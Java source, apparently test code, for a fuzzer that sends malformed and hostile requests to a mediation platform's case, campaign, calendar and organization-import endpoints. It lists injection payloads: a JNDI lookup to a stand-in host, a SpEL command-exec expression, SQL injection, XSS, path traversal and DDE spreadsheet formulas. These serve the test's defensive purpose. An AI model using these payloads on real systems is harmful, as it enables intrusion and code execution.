package cn.jiyuan.mediation.platform;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

/**
 * Generates malformed and hostile requests to every POST/PUT endpoint of {@code /api}, deterministically from a
 * seed. Every request carries at least one real defect (a bad field, a broken body, a wrong method or content
 * type, a body over the limit, …), so that every answer must be a 4xx and nothing may change. On top of the
 * defects, text fields are often filled with text that is hostile but valid on its own (expression and SQL
 * fragments, markup): such text must be taken as text, and the request is still refused for its defect.
 */
final class HostileRequests {

    /** One request to send. The body is built when sent, so that big bodies are not all held at once. */
    record Attack(String endpoint, String defect, String method, String path, String user, String password,
                  String contentType, String accept, Map<String, String> headers, Supplier<byte[]> body,
                  boolean chunked) {
    }

    static final String CASES = "/api/cases";
    static final String CAMPAIGNS = "/api/screening/campaigns";
    static final String CALENDAR = "/api/calendar/sensitive-periods";
    static final String IMPORT = "/api/admin/organization/import";

    static final int JSON_LIMIT = 1024 * 1024;
    static final int UPLOAD_LIMIT = 20 * 1024 * 1024;

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Valid on their own, taken as text: expression, template, SQL and markup fragments. */
    static final List<String> HOSTILE_TEXT = List.of("${7*7}", "#{7*7}", "${jndi:ldap://x.example/a}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}", "${T(java.lang.System).exit(0)}", "{{7*7}}",
            "<%= 7*7 %>", "'; DROP TABLE case_file; --", "\" OR \"1\"=\"1", "1' OR '1'='1", "') UNION SELECT * FROM ACT_ID_USER --",
            "<script>alert(1)</script>", "<b>粗体</b><img src=x onerror=alert(1)>", "%s%s%n", "../../etc/passwd",
            "=HYPERLINK(\"http://x.example\",\"点此\")", "\\u0000", "😀👍", "Ａ＇；ＤＲＯＰ", "张三");

    /** Characters that make a text invalid wherever they stand (inserted inside the text, not stripped). */
    static final List<String> BAD_CHARACTERS = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000b", "\u000c",
            "\u001b", "\u007f", "\u0085", "\u009b", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066",
            "\u2067", "\u2068", "\u2069", "\u200b", "\u200c", "\u200e", "\u200f", "\u2060", "\ufeff", "\u00ad",
            "\u061c", "\u2028", "\u2029", "\ufffd", "\ufffe", "\uffff");
    /** Invalid characters a workbook (XML) carries unchanged. */
    static final List<String> XML_SAFE_BAD_CHARACTERS = List.of("\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad",
            "\n", "\t", "\u2028", "\u0085");
    /** Also invalid in single-line fields. */
    static final List<String> LINE_BREAKS = List.of("\n", "\t", "\r", "\r\n");

    /** Numbers neither a count nor an amount takes, written as raw JSON (some are not even JSON). */
    static final List<String> BAD_NUMBERS = List.of("1e999999999", "1e-999999999", "-1e999999999", "1E+2147483648",
            "1e99999999999", "0.0000000000000000000000001", "123456789012345678901234567890", "-1", "-0.01",
            "9999999999999.999", "NaN", "Infinity", "-Infinity", "0x1F", "01", "1.", ".5", "+1", "1e", "--1",
            "1" + "0".repeat(70), "9".repeat(3000), "1." + "0".repeat(100) + "1", "1e-21");
    /** Fine as an amount of money, not as a count of people. */
    static final List<String> NOT_WHOLE = List.of("1.5", "2.0000001", "0.01");
    /** Fine as a count, not as an amount (at most two decimals). */
    static final List<String> TOO_PRECISE = List.of("0.001", "3000.125");

    enum Kind { TEXT, MULTILINE, CODE, DATE, INT, AMOUNT, BOOL, OBJECTS, CODES }

    record Field(String name, Kind kind, int max, boolean required) {
    }

    private final Random random;
    private final LocalDate campaignDue;
    private int placeholders;

    HostileRequests(long seed, LocalDate today) {
        this.random = new Random(seed);
        this.campaignDue = today.plusDays(30);
    }

    List<Attack> generate(int count) {
        List<Attack> attacks = new ArrayList<>(count);
        int bigUploads = 0;
        for (int i = 0; i < count; i++) {
            int pick = random.nextInt(100);
            // uploads are the most expensive to build and to check: fewer of them, still well over 500
            if (pick < 38) {
                attacks.add(json(casesSpec));
            } else if (pick < 62) {
                attacks.add(json(campaignSpec));
            } else if (pick < 86) {
                attacks.add(json(calendarSpec));
            } else {
                // uploads over the 20MB limit are slow to send: two of them make the point
                boolean big = bigUploads < 2 && i >= count / 3 * (bigUploads + 1) - 1;
                if (big) {
                    bigUploads++;
                }
                attacks.add(upload(big));
            }
        }
        return attacks;
    }

    // ================================================================================== JSON endpoints

    /** A JSON endpoint: where, as whom, a valid body and its fields. */
    record JsonSpec(String name, String method, String user, String password, Supplier<String> path,
                    Supplier<ObjectNode> valid, List<Field> fields, List<Field> partyFields, List<String> wrongMethods) {
    }

    final JsonSpec casesSpec = new JsonSpec("cases", "POST", "zhangli", "demo", () -> CASES, HostileRequests::validCase,
            List.of(new Field("channel", Kind.CODE, 64, true), new Field("category", Kind.CODE, 64, true),
                    new Field("summary", Kind.MULTILINE, 2000, true), new Field("townCode", Kind.CODE, 32, true),
                    new Field("villageCode", Kind.CODE, 32, false), new Field("parties", Kind.OBJECTS, 100, true),
                    new Field("peopleInvolved", Kind.INT, 0, false), new Field("amountInvolved", Kind.AMOUNT, 0, false),
                    new Field("enterpriseRelated", Kind.BOOL, 0, false),
                    new Field("referralReference", Kind.TEXT, 100, false),
                    new Field("riskIndicators", Kind.CODES, 50, false)),
            List.of(new Field("name", Kind.TEXT, 50, true), new Field("role", Kind.CODE, 64, true),
                    new Field("phone", Kind.CODE, 20, false), new Field("idNumber", Kind.CODE, 32, false),
                    new Field("consent", Kind.BOOL, 0, false), new Field("townCode", Kind.CODE, 32, false),
                    new Field("villageCode", Kind.CODE, 32, false)),
            // GET /api/cases is the case list (caselist): a read, no wrong method
            List.of("PUT", "PATCH", "DELETE"));

    final JsonSpec campaignSpec = new JsonSpec("campaigns", "POST", "zhaojiceng", "demo", () -> CAMPAIGNS,
            this::validCampaign,
            List.of(new Field("topic", Kind.TEXT, 100, true), new Field("requirement", Kind.MULTILINE, 2000, false),
                    new Field("scope", Kind.CODE, 64, false), new Field("townCodes", Kind.CODES, 100, false),
                    new Field("dueDate", Kind.DATE, 0, true)),
            List.of(), List.of("PUT", "PATCH", "DELETE", "GET"));

    final JsonSpec calendarSpec = new JsonSpec("calendar", "PUT", "zhaojiceng", "demo",
            () -> CALENDAR + "/2040/CUSTOM_FUZZ", HostileRequests::validPeriod,
            List.of(new Field("name", Kind.TEXT, 50, true), new Field("festivalDate", Kind.DATE, 0, false),
                    new Field("start", Kind.DATE, 0, true), new Field("end", Kind.DATE, 0, true),
                    new Field("note", Kind.MULTILINE, 500, false)),
            List.of(), List.of("POST", "PATCH", "GET"));

    static ObjectNode validCase() {
        ObjectNode body = NODES.objectNode();
        body.put("channel", "WALK_IN");
        body.put("category", "NEIGHBOR");
        body.put("summary", "两家因院墙排水问题多次争吵，申请人要求被申请人改建排水沟。\n双方均同意调解。");
        body.put("townCode", "419001100");
        body.put("villageCode", "419001100201");
        ArrayNode parties = body.putArray("parties");
        parties.addObject().put("name", "王大山").put("role", "APPLICANT").put("phone", "13812341234").put("consent", true);
        parties.addObject().put("name", "李小河").put("role", "RESPONDENT").put("phone", "0391-6612345").put("consent", true);
        body.put("peopleInvolved", 2);
        body.put("amountInvolved", 3000);
        body.put("enterpriseRelated", false);
        body.putArray("riskIndicators");
        return body;
    }

    ObjectNode validCampaign() {
        ObjectNode body = NODES.objectNode();
        body.put("topic", "冬季矛盾纠纷专项排查");
        body.put("requirement", "重点排查欠薪、土地和婚姻家庭纠纷。\n第二条要求。");
        body.put("scope", "CITY");
        body.put("dueDate", campaignDue.toString());
        return body;
    }

    static ObjectNode validPeriod() {
        ObjectNode body = NODES.objectNode();
        body.put("name", "模糊测试时期");
        body.put("start", "2040-05-01");
        body.put("end", "2040-05-03");
        body.put("note", "仅供测试\n第二行");
        return body;
    }

    /** A body under construction: the tree, then raw-text edits (tokens that are not JSON), then byte edits. */
    private final class Draft {
        JsonNode tree;
        final Map<String, String> raw = new LinkedHashMap<>();
        final Map<String, byte[]> bytes = new LinkedHashMap<>();
        final List<java.util.function.UnaryOperator<String>> textEdits = new ArrayList<>();
        String contentType = "application/json";
        String method;
        String path;
        int padTo;
        boolean chunked;

        String placeholder() {
            return "@@P" + (placeholders++) + "@@";
        }

        byte[] render() {
            String text = tree == null ? "" : tree.toString();
            for (Map.Entry<String, String> r : raw.entrySet()) {
                text = text.replace("\"" + r.getKey() + "\"", r.getValue());
            }
            for (var edit : textEdits) {
                text = edit.apply(text);
            }
            byte[] out = text.getBytes(StandardCharsets.UTF_8);
            for (Map.Entry<String, byte[]> b : bytes.entrySet()) {
                out = replace(out, b.getKey().getBytes(StandardCharsets.UTF_8), b.getValue());
            }
            if (padTo > out.length) {
                byte[] padded = Arrays.copyOf(out, padTo);
                Arrays.fill(padded, out.length, padTo, (byte) ' ');
                out = padded;
            }
            return out;
        }
    }

    private Attack json(JsonSpec spec) {
        Draft d = new Draft();
        d.tree = spec.valid().get();
        d.method = spec.method();
        d.path = spec.path().get();
        // hostile but valid text first, so that no defect is undone by it
        for (int i = random.nextInt(3); i > 0; i--) {
            decorate(d, spec);
        }
        List<String> defects = new ArrayList<>();
        int mode = random.nextInt(100);
        if (mode < 78) {
            defects.add(contentDefect(d, spec));
            if (random.nextInt(5) == 0) {
                defects.add(contentDefect(d, spec));
            }
            if (random.nextInt(8) == 0) {
                defects.add(transportDefect(d, spec));
            }
        } else {
            defects.add(transportDefect(d, spec));
        }
        String accept = random.nextInt(10) == 0 ? pick(List.of("text/html", "application/xml", "*/*",
                "application/problem+json", "text/plain;q=0.5")) : null;
        Map<String, String> headers = new LinkedHashMap<>();
        if (spec == casesSpec && random.nextInt(10) == 0) {
            headers.put("Idempotency-Key", "fuzz-" + random.nextInt(1_000_000));
        }
        return new Attack(spec.name(), String.join("+", defects), d.method, d.path, spec.user(), spec.password(),
                d.contentType, accept, headers, d::render, d.chunked);
    }

    /** Fills a text field with a hostile but valid text (within its length). */
    private void decorate(Draft d, JsonSpec spec) {
        if (!(d.tree instanceof ObjectNode root)) {
            return;
        }
        List<Field> texts = spec.fields().stream().filter(f -> f.kind() == Kind.TEXT || f.kind() == Kind.MULTILINE).toList();
        Field f = pick(texts);
        String text = pick(HOSTILE_TEXT) + (f.kind() == Kind.MULTILINE && random.nextBoolean() ? "\n" + pick(HOSTILE_TEXT) : "");
        root.put(f.name(), text.length() > f.max() ? text.substring(0, f.max()) : text);
        if (spec == casesSpec && random.nextBoolean()) {
            String first = pick(HOSTILE_TEXT);
            ((ObjectNode) root.get("parties").get(random.nextInt(2))).put("name",
                    new String(Character.toChars(first.codePointAt(0))) + "某");
        }
    }

    /** The object and field a defect goes into: a top-level field, or one of a party's. */
    private record Target(ObjectNode object, Field field) {
    }

    private Target target(Draft d, JsonSpec spec) {
        ObjectNode root = (ObjectNode) d.tree;
        if (!spec.partyFields().isEmpty() && random.nextInt(3) == 0 && root.get("parties") instanceof ArrayNode parties
                && parties.size() > 0 && parties.get(0) instanceof ObjectNode) {
            return new Target((ObjectNode) parties.get(random.nextInt(parties.size())), pick(spec.partyFields()));
        }
        return new Target(root, pick(spec.fields()));
    }

    private String contentDefect(Draft d, JsonSpec spec) {
        if (!(d.tree instanceof ObjectNode)) {
            d.tree = spec.valid().get(); // an earlier defect replaced the whole body: keep it broken elsewhere
            d.textEdits.add(t -> t + "}");
        }
        Target t = target(d, spec);
        ObjectNode o = t.object();
        Field f = t.field();
        int kind = random.nextInt(20);
        switch (kind) {
            case 0, 1 -> {
                o.set(f.name(), wrongType(f));
                return "wrong-type:" + f.name();
            }
            case 2 -> {
                if (f.required()) {
                    if (random.nextBoolean()) {
                        o.remove(f.name());
                    } else {
                        o.putNull(f.name());
                    }
                    return "missing:" + f.name();
                }
                o.set(f.name(), wrongType(f));
                return "wrong-type:" + f.name();
            }
            case 3, 4, 5 -> {
                String value = textOf(f);
                String bad = pick(f.kind() == Kind.MULTILINE ? BAD_CHARACTERS : concat(BAD_CHARACTERS, LINE_BREAKS));
                int at = 1 + random.nextInt(Math.max(1, value.length() - 1));
                o.put(f.name(), value.substring(0, at) + bad + value.substring(at));
                return "bad-character:" + f.name() + ":U+" + String.format("%04X", (int) bad.charAt(0));
            }
            case 6 -> {
                String p = d.placeholder();
                o.put(f.name(), p);
                String value = textOf(f);
                d.raw.put(p, "\"" + value.charAt(0) + pick(List.of("\\ud800", "\\udfff", "\\ud83d")) + value.substring(1) + "\"");
                return "lone-surrogate:" + f.name();
            }
            case 7 -> {
                int max = f.max() > 0 ? f.max() : 64;
                int length = max + 1 + random.nextInt(random.nextInt(20) == 0 ? 250_000 : 5_000);
                o.put(f.name(), longText(length));
                return "too-long:" + f.name() + ":" + length;
            }
            case 8, 9 -> {
                String p = d.placeholder();
                o.put(f.name(), p);
                d.raw.put(p, pick(f.kind() == Kind.INT && random.nextBoolean() ? NOT_WHOLE
                        : f.kind() == Kind.AMOUNT && random.nextBoolean() ? TOO_PRECISE : BAD_NUMBERS));
                return "bad-number:" + f.name() + ":" + d.raw.get(p).substring(0, Math.min(20, d.raw.get(p).length()));
            }
            case 10 -> {
                String name = pick(List.of("summry", "isAdmin", "__proto__", "constructor", "$where", "${x}", "id", "caseId",
                        "status", "committeeCode", "createdBy", "handlingLevel", "riskLevel", "x".repeat(300),
                        "名\u202e称", "a b"));
                o.set(name, random.nextBoolean() ? TextNode.valueOf(pick(HOSTILE_TEXT)) : NODES.numberNode(1));
                return "unknown-field";
            }
            case 11 -> {
                String name = f.name();
                d.textEdits.add(text -> text.replaceFirst("\\{", "{\"" + name + "\":1,"));
                return "duplicate-field:" + name;
            }
            case 12 -> {
                String p = d.placeholder();
                o.put(f.name(), p);
                int depth = pick(List.of(25, 100, 2000, 100_000));
                d.raw.put(p, random.nextBoolean() ? "[".repeat(depth) + "]".repeat(depth)
                        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
                return "deep-nesting:" + depth;
            }
            case 13 -> {
                return hugeArray(d, spec, o, f);
            }
            case 14 -> {
                String trailing = pick(List.of(" x", "}", "{}", "]", ",", "\"a\"", "[1]", " 1"));
                d.textEdits.add(text -> text + trailing);
                return "trailing-content";
            }
            case 15 -> {
                double cut = random.nextDouble();
                d.textEdits.add(text -> text.substring(0, (int) (cut * (text.length() - 1))));
                return "truncated";
            }
            case 16 -> {
                d.tree = null;
                String body = pick(List.of("[]", "[{}]", "1", "\"text\"", "null", "true", "", "   ", "{'a':1}",
                        "{a:1}", "{\"a\":1,}", "/* c */ {}", "{\"a\" 1}", "\u0000", "{\"a\":\"\\x41\"}", "{\"a\":01}"));
                d.textEdits.add(text -> body);
                return "not-an-object:" + body.strip();
            }
            case 17 -> {
                String p = d.placeholder();
                String value = textOf(f);
                o.put(f.name(), value.charAt(0) + p + value.substring(1));
                d.bytes.put(p, pick(List.of(new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xC0, (byte) 0xAF},
                        new byte[]{(byte) 0xC3}, new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        new byte[]{(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, new byte[]{(byte) 0x80},
                        "济源".getBytes(Charset.forName("GBK")))));
                return "invalid-utf8:" + f.name();
            }
            default -> {
                return badValue(o, f, spec);
            }
        }
    }

    /** A value of the field's own type that the field does not take. */
    private String badValue(ObjectNode o, Field f, JsonSpec spec) {
        String value = switch (f.kind()) {
            case CODE -> pick(List.of("FAX", "VILLAGE", "419001999", "' OR 1=1 --", "${x}", "#{7*7}", "walk_in ",
                    "419001100201; DROP TABLE case_file", "APPLICANT,RESPONDENT", "0391-661234X", "ABC-DEF"));
            case DATE -> pick(List.of("2027-02-30", "yesterday", "+999999999-12-31", "-999999999-01-01", "2020-01-01",
                    campaignDue.plusYears(2).toString(), "2040-13-01", "20400501", "2040/05/01", "${date}", "2039-01-01",
                    "2041-03-01"));
            case TEXT, MULTILINE -> "   ";
            case INT, AMOUNT -> null;
            case BOOL -> null;
            case OBJECTS -> null;
            case CODES -> null;
        };
        if (f.kind() == Kind.TEXT || f.kind() == Kind.MULTILINE) {
            if (!f.required()) {
                o.set(f.name(), wrongType(f));
                return "wrong-type:" + f.name();
            }
            o.put(f.name(), value);
            return "blank:" + f.name();
        }
        if (value == null) {
            o.set(f.name(), wrongType(f));
            return "wrong-type:" + f.name();
        }
        if (f.name().equals("scope") && spec == campaignSpec && random.nextBoolean()) {
            // a town list with the city-wide scope is refused too
            o.putArray("townCodes").add("419001100");
            return "scope-city-with-towns";
        }
        o.put(f.name(), value);
        return "bad-value:" + f.name();
    }

    private String hugeArray(Draft d, JsonSpec spec, ObjectNode o, Field f) {
        int choice = random.nextInt(3);
        if (choice == 0 && spec == casesSpec) {
            ArrayNode parties = ((ObjectNode) d.tree).putArray("parties");
            int n = 101 + random.nextInt(400);
            for (int i = 0; i < n; i++) {
                parties.addObject().put("name", "当事人" + i).put("role", i % 2 == 0 ? "APPLICANT" : "RESPONDENT");
            }
            return "too-many-parties:" + n;
        }
        if (choice == 1) {
            Field codes = spec.fields().stream().filter(x -> x.kind() == Kind.CODES).findFirst().orElse(null);
            if (codes != null) {
                ArrayNode array = ((ObjectNode) d.tree).putArray(codes.name());
                int n = codes.max() + 1 + random.nextInt(500);
                for (int i = 0; i < n; i++) {
                    array.add(codes.name().equals("townCodes") ? "419001100" : "VIOLENCE_THREAT");
                }
                return "too-many-codes:" + n;
            }
        }
        String p = d.placeholder();
        o.put(f.name(), p);
        int n = 20_001 + random.nextInt(100_000);
        StringBuilder array = new StringBuilder(n * 2 + 2).append('[');
        for (int i = 0; i < n; i++) {
            array.append(i == 0 ? "" : ",").append(i % 10);
        }
        d.raw.put(p, array.append(']').toString());
        return "huge-array:" + n;
    }

    private JsonNode wrongType(Field f) {
        List<JsonNode> choices = new ArrayList<>(List.of(NODES.objectNode(), NODES.objectNode().put("a", 1),
                NODES.arrayNode().add(1).add(2)));
        switch (f.kind()) {
            case TEXT, MULTILINE, CODE, DATE -> {
                choices.add(NODES.numberNode(123));
                choices.add(NODES.booleanNode(true));
                choices.add(NODES.arrayNode().add("x"));
                choices.add(NODES.numberNode(new java.math.BigDecimal("2.5")));
            }
            case INT, AMOUNT -> {
                choices.add(TextNode.valueOf("12"));
                choices.add(NODES.booleanNode(false));
                choices.add(NODES.arrayNode());
            }
            case BOOL -> {
                choices.add(TextNode.valueOf("true"));
                choices.add(TextNode.valueOf("yes"));
                choices.add(NODES.numberNode(1));
                choices.add(NODES.numberNode(0));
            }
            case OBJECTS -> {
                choices.add(TextNode.valueOf("王大山"));
                choices.add(NODES.numberNode(2));
                choices.add(NODES.arrayNode().add(NODES.objectNode()));
                choices.add(NODES.arrayNode());
                choices.add(NODES.arrayNode().add(NODES.arrayNode()));
                choices.add(NODES.arrayNode().add("APPLICANT"));
            }
            case CODES -> {
                choices.add(TextNode.valueOf("VIOLENCE_THREAT"));
                choices.add(TextNode.valueOf("419001100"));
                choices.add(NODES.arrayNode().add(NODES.nullNode()));
                choices.add(NODES.arrayNode().add(419001100));
                choices.add(NODES.arrayNode().add(NODES.objectNode()));
                choices.add(NODES.arrayNode().add("UNKNOWN_CODE"));
            }
            default -> {
            }
        }
        return pick(choices);
    }

    /** A value of the field's kind to insert bad characters into. */
    private String textOf(Field f) {
        return switch (f.kind()) {
            case TEXT, MULTILINE -> pick(List.of("正常的文字内容", "abc def", "两家因排水问题争吵"));
            case CODE -> pick(List.of("WALK_IN", "419001100", "APPLICANT", "CITY", "13812341234"));
            case DATE -> pick(List.of("2040-05-01", campaignDue.toString()));
            default -> "12";
        };
    }

    private String transportDefect(Draft d, JsonSpec spec) {
        int kind = random.nextInt(20);
        switch (kind) {
            case 0, 1, 2, 3, 4, 5, 6, 7, 8 -> {
                d.contentType = pick(Arrays.asList("text/plain", "text/plain; charset=UTF-8", "application/xml",
                        "application/x-www-form-urlencoded", null, "application/json; charset=ISO-8859-1",
                        "application/json; charset=UTF-16", "application/json; charset=nonsense",
                        "application/json-patch+json", "multipart/form-data; boundary=x", "*/*", "application/octet-stream",
                        "text/html", "application/json, text/plain"));
                return "content-type:" + d.contentType;
            }
            case 9, 10, 11, 12, 13 -> {
                d.method = pick(spec.wrongMethods());
                return "method:" + d.method;
            }
            case 14, 15, 16 -> {
                d.path = d.path + pick(List.of("/x", "/%E2%80%AE", "/a/b/c", "s"));
                if (d.method.equals("PUT") && spec == calendarSpec) {
                    d.path = CALENDAR + pick(List.of("/abc/CUSTOM_FUZZ", "/1800/CUSTOM_FUZZ", "/99999999999/CUSTOM_FUZZ",
                            "/2040/lower_case", "/2040/X", "/2040/" + "A".repeat(40), "/2040/%E2%80%AECUSTOM",
                            "/2040/CUSTOM%20FUZZ", "/%20/CUSTOM_FUZZ", "/2040.5/CUSTOM_FUZZ"));
                }
                return "path:" + d.path;
            }
            default -> {
                // just over the limit: what is refused is the size, not a huge transfer
                d.padTo = JSON_LIMIT + 1 + random.nextInt(64 * 1024);
                d.chunked = random.nextInt(3) == 0;
                return "over-limit:" + d.padTo + (d.chunked ? ":chunked" : "");
            }
        }
    }

    // ================================================================================== uploads

    private static final String UNITS_HEADER = "code,name,level,parent_code";
    private static final String UNIT_CITY = "419001,济源产城融合示范区,CITY,";
    private static final String UNIT_TOWN = "419001001,沁园街道,TOWN,419001";

    private Attack upload(boolean big) {
        String boundary = "----fuzz" + random.nextInt(1_000_000);
        String contentType = "multipart/form-data; boundary=" + boundary;
        String method = "POST";
        List<Part> parts = new ArrayList<>();
        // hostile but valid text in a name, then the defect
        String name = random.nextBoolean() ? pick(HOSTILE_TEXT).replace("=", "") : "济源产城融合示范区";
        List<List<String>> rows = new ArrayList<>(List.of(
                new ArrayList<>(List.of("419001", name.strip().isEmpty() ? "名" : name, "CITY", "")),
                new ArrayList<>(List.of("419001001", "沁园街道", "TOWN", "419001"))));
        String defect;
        Supplier<byte[]> body = null;
        if (big) {
            defect = "over-limit-upload";
            int size = UPLOAD_LIMIT + 1 + random.nextInt(5 * 1024 * 1024);
            parts.add(new Part("file", "units.csv", () -> {
                byte[] data = new byte[size];
                Arrays.fill(data, (byte) 'a');
                return data;
            }));
        } else {
            int kind = random.nextInt(22);
            defect = switch (kind) {
                case 0, 1, 2 -> {
                    String formula = pick(List.of("=HYPERLINK(\"http://x.example\",\"点击\")", "=1+1", "+1+1", "-2+3",
                            "@SUM(1,1)", "\t=1+1", "\r=1+1", " =cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "-", "+"));
                    rows.get(random.nextInt(2)).set(1, formula);
                    yield "formula:" + formula.strip();
                }
                case 3 -> {
                    // a formula cell of a workbook
                    parts.add(new Part("file", "org.xlsx", () -> workbook(rows, true)));
                    yield "xlsx-formula-cell";
                }
                case 4, 5 -> {
                    boolean xlsx = random.nextBoolean();
                    // a workbook is XML: only characters XML can carry arrive as they are
                    String bad = pick(xlsx ? XML_SAFE_BAD_CHARACTERS : concat(BAD_CHARACTERS, LINE_BREAKS));
                    String n = rows.get(0).get(1);
                    int at = Character.charCount(n.codePointAt(0));
                    rows.get(0).set(1, n.substring(0, at) + bad + n.substring(at));
                    if (xlsx) {
                        parts.add(new Part("file", "org.xlsx", () -> workbook(rows, false)));
                        yield "xlsx-bad-character";
                    }
                    yield "bad-character:U+" + String.format("%04X", (int) bad.charAt(0));
                }
                case 6 -> {
                    String header = pick(List.of("code,name,level", "code,name,level,parent_code,extra",
                            "code,name,level,parent_code,colour", ",,,", ""));
                    parts.add(new Part("file", "units.csv", () -> csv(header, rows)));
                    yield "bad-header";
                }
                case 7 -> {
                    parts.add(new Part("file", "units.csv", () -> (UNITS_HEADER + "\n419001," + "济源").getBytes(Charset.forName("GBK"))));
                    yield "not-utf8";
                }
                case 8 -> {
                    parts.add(new Part("file", "units.csv", () -> (UNITS_HEADER + "\n419001,\"济源,CITY,\n").getBytes(StandardCharsets.UTF_8)));
                    yield "unclosed-quote";
                }
                case 9 -> {
                    String file = pick(List.of("users.csv", "units.txt", "units.exe", "units", "units.csv.exe", "units.xls"));
                    parts.add(new Part("file", file, () -> csv("user,password,role", List.of(List.of("admin", "x", "ADMIN")))));
                    yield "unknown-file:" + file;
                }
                case 10 -> {
                    rows.get(random.nextInt(2)).set(random.nextBoolean() ? 0 : 2,
                            pick(List.of("41900X", "PROVINCE", "4190010011", "' OR 1=1 --", "${x}")));
                    yield "bad-code";
                }
                case 11 -> {
                    rows.add(List.of("419001001", "沁园街道重复", "TOWN", "419001"));
                    yield "duplicate-code";
                }
                case 12 -> {
                    byte[] junk = new byte[1 + random.nextInt(5000)];
                    random.nextBytes(junk);
                    parts.add(new Part("file", "org.xlsx", () -> junk));
                    yield "corrupt-xlsx";
                }
                case 13 -> {
                    String file = pick(List.of("units\u202Evsc.csv", "uni\u0001ts.csv", "a".repeat(300) + ".csv",
                            "units\u200B.csv", "units\r\n.csv"));
                    parts.add(new Part("file", file, () -> csv(UNITS_HEADER, rows)));
                    yield "bad-file-name";
                }
                case 14 -> {
                    parts.add(new Part(pick(List.of("files", "upload", "FILE", "")), "units.csv", () -> csv(UNITS_HEADER, rows)));
                    yield "wrong-part-name";
                }
                case 15 -> {
                    parts.add(new Part("file", null, () -> csv(UNITS_HEADER, rows)));
                    yield "part-without-file-name";
                }
                case 16, 17, 18 -> {
                    byte[] valid = multipart(boundary, List.of(new Part("file", "units.csv", () -> csv(UNITS_HEADER, rows))));
                    int broken = random.nextInt(7);
                    String b = boundary;
                    int cut = 1 + random.nextInt(valid.length / 2);
                    body = switch (broken) {
                        case 0 -> () -> Arrays.copyOf(valid, valid.length - cut);
                        case 1 -> () -> new String(valid, StandardCharsets.UTF_8).replace("--" + b + "--", "").getBytes(StandardCharsets.UTF_8);
                        case 2 -> () -> new String(valid, StandardCharsets.UTF_8).replace("\r\n\r\n", "\r\n").getBytes(StandardCharsets.UTF_8);
                        case 3 -> () -> "this is not multipart at all".getBytes(StandardCharsets.UTF_8);
                        case 4 -> () -> new byte[0];
                        case 5 -> () -> ("--" + b + "--\r\n").getBytes(StandardCharsets.UTF_8);
                        default -> () -> new String(valid, StandardCharsets.UTF_8).replace(b, b + "x").getBytes(StandardCharsets.UTF_8);
                    };
                    if (broken == 6 && random.nextBoolean()) {
                        contentType = "multipart/form-data";
                    }
                    yield "broken-multipart:" + broken;
                }
                case 19 -> {
                    contentType = pick(List.of("application/json", "text/csv", "application/x-www-form-urlencoded",
                            "application/octet-stream", "multipart/mixed; boundary=" + boundary));
                    yield "content-type:" + contentType;
                }
                case 20 -> {
                    method = pick(List.of("PUT", "PATCH", "DELETE", "GET"));
                    yield "method:" + method;
                }
                default -> {
                    for (int i = 0; i < 12 + random.nextInt(20); i++) {
                        parts.add(new Part("file", "units" + i + ".csv", () -> csv("code,name", List.of(List.of("1", "2")))));
                    }
                    yield "many-bad-parts";
                }
            };
        }
        if (parts.isEmpty()) {
            parts.add(new Part("file", "units.csv", () -> csv(UNITS_HEADER, rows)));
        }
        if (body == null) {
            List<Part> all = List.copyOf(parts);
            String b = boundary;
            body = () -> multipart(b, all);
        }
        return new Attack("import", defect, method, IMPORT, "admin", "admin-secret", contentType, null, Map.of(), body,
                false);
    }

    private record Part(String name, String fileName, Supplier<byte[]> content) {
    }

    private static byte[] multipart(String boundary, List<Part> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (Part p : parts) {
            out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + p.name() + "\""
                    + (p.fileName() == null ? "" : "; filename=\"" + p.fileName() + "\"")
                    + "\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            out.writeBytes(p.content().get());
            out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static byte[] csv(String header, List<List<String>> rows) {
        StringBuilder s = new StringBuilder(header).append("\r\n");
        for (List<String> row : rows) {
            for (int i = 0; i < row.size(); i++) {
                String cell = row.get(i);
                boolean quote = cell.contains(",") || cell.contains("\"") || cell.contains("\n") || cell.contains("\r");
                s.append(i == 0 ? "" : ",").append(quote ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell);
            }
            s.append("\r\n");
        }
        return s.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] workbook(List<List<String>> rows, boolean formula) {
        try (XSSFWorkbook wb = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = wb.createSheet("units");
            Row header = sheet.createRow(0);
            String[] columns = UNITS_HEADER.split(",");
            for (int c = 0; c < columns.length; c++) {
                header.createCell(c).setCellValue(columns[c]);
            }
            for (int r = 0; r < rows.size(); r++) {
                Row row = sheet.createRow(r + 1);
                for (int c = 0; c < rows.get(r).size(); c++) {
                    if (formula && r == 0 && c == 1) {
                        row.createCell(c).setCellFormula("HYPERLINK(\"http://x.example\",\"点击\")");
                    } else {
                        row.createCell(c).setCellValue(rows.get(r).get(c));
                    }
                }
            }
